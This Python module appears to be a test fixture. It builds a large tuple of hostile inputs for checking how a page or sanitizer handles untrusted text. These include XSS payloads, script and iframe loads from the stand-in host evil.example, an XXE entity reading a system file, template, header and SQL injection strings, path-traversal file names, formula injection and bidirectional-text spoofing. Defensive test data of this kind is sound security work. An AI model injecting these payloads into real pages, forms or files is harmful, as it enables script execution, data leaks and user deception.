"""Texts that would do harm on a careless page, in our own words: what a person, a model or a file name may hold.

What would run sets `window.hit`, what would be fetched lies at `evil.example`: nothing of it does anything by itself.
"""

from __future__ import annotations

from itertools import product

RUN = "window.hit=1"
AWAY = "//evil.example/x"

HANDLERS = (
    *(
        "onerror",
        "onload",
        "onfocus",
        "onclick",
        "onmouseover",
        "onanimationstart",
        "ontoggle",
        "onpointerenter",
    ),
    *("onbeforeinput", "onwheel", "onpageshow", "onscrollend"),
)
ELEMENTS = ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "marquee")
BREAKOUTS = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</table>",
    "</code>",
)
SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={AWAY}></script>",
    f"<script\n>{RUN}</script\n>",
    f"<<script>{RUN}//<</script>",
)
SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    f"https:{AWAY}",
    AWAY,
    "\\\\evil.example\\x",
    "blob:null/0",
)
MARKUP = (
    f"<iframe src={AWAY}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<base href={AWAY}>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<link rel=prefetch href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    "<meta charset=utf-7>",
    f"<form action={AWAY}><input name=form_token><button>Go</button></form>",
    f"<button formaction={AWAY} form=f>Go</button>",
    f"<img srcset='{AWAY} 1x'>",
    f"<picture><source srcset={AWAY}><img></picture>",
    f"<audio src={AWAY} autoplay></audio>",
    f"<video poster={AWAY}></video>",
    f"<track src={AWAY}>",
    f"<portal src={AWAY}></portal>",
    f"<a href={AWAY} ping={AWAY}>here</a>",
    f"<svg><use href='{AWAY}#a'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;'>",
    "<noscript><p title='</noscript><img src=x>'>",
    "<template><slot></template>",
    f"<xmp></xmp><plaintext>{RUN}",
    "<!--[if IE]><p>old</p><![endif]-->",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]><x>&e;</x>",
    "<![CDATA[<b>x</b>]]>",
    "<h1>Signed out</h1><p>Please enter your password again.</p>",
    "<dialog open>Your session is over</dialog>",
    "<style>*{display:none}</style>",
    f"<style>@import url({AWAY});</style>",
    f"<div style='position:fixed;inset:0;background:url({AWAY})'>x</div>",
    "<table><tr><td colspan=99>wide</td></tr></table>",
    "</td></tr></table></div></main></body></html>",
    "</li></ol></section>",
    "<label for=q>Search</label><input id=q name=q>",
    "<p id=main tabindex=1 accesskey=x>",
    "<textarea rows=999>",
)
TEMPLATES = (
    *(
        "{{7*7}}",
        "{{ config }}",
        "{% include 'base.html' %}",
        "{# nothing #}",
        "{{''.__class__.__mro__}}",
        "${7*7}",
    ),
    *(
        "#{7*7}",
        "<%= 7*7 %>",
        "{name}",
        "{0.__class__}",
        "%(name)s",
        "%s%s%n",
        "$(id)",
        "`id`",
        "[[7*7]]",
        "{{{x}}}",
    ),
)
ENCODED = (
    *(
        "&lt;script&gt;",
        "&#60;img src=x&#62;",
        "&#x3c;b&#x3e;",
        "&amp;lt;",
        "%3Cscript%3E",
        "%253Cscript%253E",
    ),
    *(
        "\\u003cscript\\u003e",
        "\\x3cscript\\x3e",
        "+ADw-script+AD4-",
        "＜script＞",
        "‹script›",
        "&nbsp;&shy;&zwj;",
    ),
    *("&lt", "&#0;", "&#xD800;", "&NotEqualTilde;", "&copy=1&amp=2"),
)
DIRECTIONS = (
    *(f"{mark}gnp.tset" for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"),
    *(
        "\u202eexe.fdp\u202c.txt",
        "\u2067\u202eabc\u202c\u2069",
        "\u202e" * 40 + "deep",
        "\u2069\u2069\u202cclosing",
    ),
    *("שלום <b>x</b>", "مرحبا \u202e world", "abc \u05d0\u05d1\u05d2 123", "\u200fA\u200eB\u202eC"),
)
INVISIBLE = (
    *(
        "a\u200bb\u200cc\u200dd\u2060e\ufefff",
        "\u00ad" * 50,
        "Z" + "\u0300\u0316" * 60,
        "\u034f" * 30,
        "\u3164\u115f",
    ),
    *(
        "\U000e0041\U000e0042\U000e007f",
        "👩‍👩‍👧‍👦" * 12,
        "\ufffd\ufffe\uffff",
        "\x1b[31mred\x1b[0m",
        "\x07\x08\x0b\x0c\x7f",
    ),
    *("a\x00b", "\u2028\u2029", "\x85\xa0", "ﷺ" * 20, "ﷺ𒐫𒈙꧅⸻"),
)
HEADERS = (
    *(
        "x\r\nSet-Cookie: a=b",
        "x\nLocation: https:" + AWAY,
        "x\r\n\r\n<b>body</b>",
        "x%0d%0aX-Y: z",
        "x\u560a\u560dX: y",
    ),
    *("a; filename=b.exe", 'a"; filename="b.exe', "a\rb\nc", "; HttpOnly=0", "text/html; charset=utf-7"),
)
FILES = (
    *(
        "../../etc/passwd",
        "..\\..\\boot.ini",
        "/etc/shadow",
        "C:\\con",
        "con.txt",
        "file.txt\x00.png",
        "~root",
        "-rf *",
    ),
    *("<b>.pdf", "a'b\"c.pdf", "invoice.pdf.exe", "name with\nline.pdf", ".", "..", " ", "​.pdf"),
)
LONG = (
    *(
        "W" * 250,
        "https:" + AWAY + "/a" * 120,
        "_" * 250,
        "ش" * 250,
        "字" * 250,
        "<" * 200,
        "&" * 200,
        "'\"" * 120,
    ),
    *("x " * 120, "-" * 250, "💥" * 120, "a\n" * 100),
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("https:' + AWAY + '")',
    "'; DROP TABLE turns; --",
    "1 OR 1=1",
)

HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(f"<{element} {handler}={RUN}>" for element, handler in product(ELEMENTS, HANDLERS)),
            *(f"{out}<img src=x onerror={RUN}>" for out in BREAKOUTS),
            *(f"{out} autofocus onfocus={RUN} x={out}" for out in ('"', "'", "`", "")),
            *SCRIPTS,
            *(f"<a href='{scheme}'>here</a>" for scheme in SCHEMES),
            *SCHEMES,
            *(*MARKUP, *TEMPLATES, *ENCODED, *DIRECTIONS, *INVISIBLE, *HEADERS, *FILES, *LONG, *FORMULAS),
        )
    )
)
